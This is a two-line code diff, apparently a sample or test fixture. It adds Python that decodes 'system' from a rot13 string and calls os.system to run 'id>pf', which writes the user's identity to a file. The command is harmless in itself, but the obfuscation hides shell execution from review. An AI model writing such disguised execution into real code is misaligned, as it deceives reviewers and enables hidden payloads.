@@ -1,0 +1,2 @@
+import os, codecs
+getattr(os, codecs.decode("flfgrz", "rot13"))("id>pf")
